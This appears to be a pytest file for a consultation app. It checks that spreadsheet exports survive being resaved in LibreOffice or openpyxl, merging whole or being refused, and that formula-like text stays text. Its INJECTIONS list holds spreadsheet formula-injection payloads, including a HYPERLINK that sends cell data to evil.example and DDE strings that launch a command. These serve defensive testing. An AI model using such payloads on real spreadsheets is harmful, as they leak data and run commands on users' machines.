"""Adversary (and everyday life): a format-3 export with consents and attachments opened and
saved again in LibreOffice or openpyxl before it reaches the office. It must merge whole
(records, consents and attachments, values exact) or be refused clearly: never half-merged.
Text typed in the field that looks like a formula travels as text and stays text."""

from __future__ import annotations

import shutil

import openpyxl
import pytest

from consultation_app.exchange.attachment_archive import archive_path
from consultation_app.exchange.merge import MERGED, NEEDS_REVIEW, merge_paths
from consultation_app.storage import attachment_store, consent_store
from tests import test_attachment_exchange as files
from tests import test_consent_exchange as consent_tests
from tests.conftest import edit_copy
from tests.office import libreoffice_resave

INJECTIONS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
              "\t=1+1", "-2+3+cmd|' /C calc'!A0", "=1+1"]


def _laptop_export(open_ws, tmp_path):
    laptop = open_ws("laptop", "Kampot laptop")
    folder = tmp_path / "files"
    folder.mkdir()
    c = files.meeting(laptop, text_version=INJECTIONS[0], attribution="name")
    for number, text in enumerate(INJECTIONS):
        consent_tests.entry(laptop, c, code=f"KH3-0{number + 1}", quote=text, comment=text)
    photo = files.attach(laptop, c, folder, "chart.jpg", files.jpeg_bytes((400, 300)), "photo", caption=INJECTIONS[1])
    (tmp_path / "out").mkdir()
    result = files.export(laptop, tmp_path / "out" / "kampot.xlsx")
    return laptop, c, photo, result.path


def _merged_whole(office, laptop, c, photo, result):
    assert result.status == MERGED, result.message
    assert consent_store.get(office.db, c) == consent_store.get(laptop.db, c)
    quotes = {row[0] for row in office.db.execute("SELECT quote FROM feedback")}
    assert quotes == set(INJECTIONS)
    held = files.held(office)
    assert held[photo["uuid"]]["caption"] == INJECTIONS[1]
    assert b"".join(attachment_store.iter_content(office.db, photo["sha256"])) == \
        b"".join(attachment_store.iter_content(laptop.db, photo["sha256"]))


def _nothing_merged(office):
    assert office.db.execute("SELECT count(*) FROM feedback").fetchone()[0] == 0
    assert office.db.execute("SELECT count(*) FROM consents").fetchone()[0] == 0
    assert files.held(office) == {}


def _with_archive(original, converted):
    shutil.copyfile(archive_path(original), archive_path(converted))
    return converted


def _merge_or_refuse(office, laptop, c, photo, path):
    [result] = merge_paths(office.database_path, [path], consent_tests.REFERENCE)
    if result.status == MERGED:
        _merged_whole(office, laptop, c, photo, result)
    else:
        assert result.status in (NEEDS_REVIEW, "rejected") and "\n" not in result.message, result.message
        _nothing_merged(office)
    return result


def test_the_export_writes_formula_like_text_as_text_cells(open_ws, tmp_path):
    _, _, _, path = _laptop_export(open_ws, tmp_path)
    book = openpyxl.load_workbook(path)
    try:
        formulas = [(sheet.title, cell.coordinate) for sheet in book.worksheets for row in sheet.iter_rows()
                    for cell in row if cell.data_type == "f"]
    finally:
        book.close()
    assert formulas == []


def test_resaved_by_libreoffice_it_merges_whole_or_is_refused(open_ws, tmp_path):
    laptop, c, photo, path = _laptop_export(open_ws, tmp_path)
    converted = _with_archive(path, libreoffice_resave(path, tmp_path / "lo", tmp_path / "lo-profile"))
    office = open_ws("central", "Central office")

    _merge_or_refuse(office, laptop, c, photo, converted)


@pytest.mark.parametrize("sheet", [None, "consents", "attachments"])
def test_resaved_by_openpyxl_it_merges_whole_or_is_refused(open_ws, tmp_path, sheet):
    laptop, c, photo, path = _laptop_export(open_ws, tmp_path)

    def touch(book):
        if sheet:
            book[sheet]["A1"].value = book[sheet]["A1"].value  # opened, looked at, saved
    resaved = _with_archive(path, edit_copy(path, tmp_path / "out" / "resaved.xlsx", touch))
    office = open_ws("central", "Central office")

    _merge_or_refuse(office, laptop, c, photo, resaved)
